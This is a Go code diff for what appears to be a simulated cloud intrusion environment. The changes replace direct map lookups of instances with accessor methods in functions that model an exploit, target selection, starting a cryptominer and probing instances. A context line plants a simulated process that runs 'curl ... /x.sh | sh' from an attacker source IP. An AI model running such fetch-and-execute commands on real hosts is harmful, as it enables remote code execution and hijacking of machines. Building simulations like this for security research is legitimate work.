@@ -74,7 +74,7 @@ func exploitLocked(env *Env, cloud string, p Params) (string, error) {
 	if err != nil {
 		return vm, err
 	}
-	inst := w.Instances[vm]
+	inst := w.Instances.Lookup(vm)
 	inst.Processes = append(inst.Processes, world.Process{PID: 31337, User: "app",
 		Command: "/bin/sh -c curl -s http://" + env.SourceIP + "/x.sh | sh", CPU: 0.2})
 	hold := env.State.In(cloud)
@@ -102,7 +102,7 @@ func pickTargetLocked(w *world.World, h simcloud.Host, site simcloud.Site, group
 		}
 		return members[len(members)-1], nil
 	}
-	if _, ok := w.Instances[target]; !ok || simcloud.CloudOfLocked(w, target) != site.Cloud {
+	if _, ok := w.Instances.Get(target); !ok || simcloud.CloudOfLocked(w, target) != site.Cloud {
 		return "", fmt.Errorf("%s VM %q does not exist", site.Cloud, target)
 	}
 	return target, nil
@@ -142,7 +142,7 @@ func startMinerLocked(env *Env, cloud, vm string, p Params, pool string) error {
 	w := env.World
 	w.LockAs(hostCaller)
 	defer w.Unlock()
-	inst, ok := w.Instances[vm]
+	inst, ok := w.Instances.Get(vm)
 	if vm == "" || !ok {
 		return fmt.Errorf("no foothold: the exploit step did not succeed")
 	}
@@ -351,7 +351,7 @@ func launchedProbe(id string) Probe {
 		w := env.World
 		w.LockAs(hostCaller)
 		defer w.Unlock()
-		if i := w.Instances[id]; i != nil && (i.State == world.StateRunning || i.State == world.StatePending) {
+		if i := w.Instances.Lookup(id); i != nil && (i.State == world.StateRunning || i.State == world.StatePending) {
 			return Outcome{Open: true}
 		}
 		return Outcome{Code: "NotRunning"}
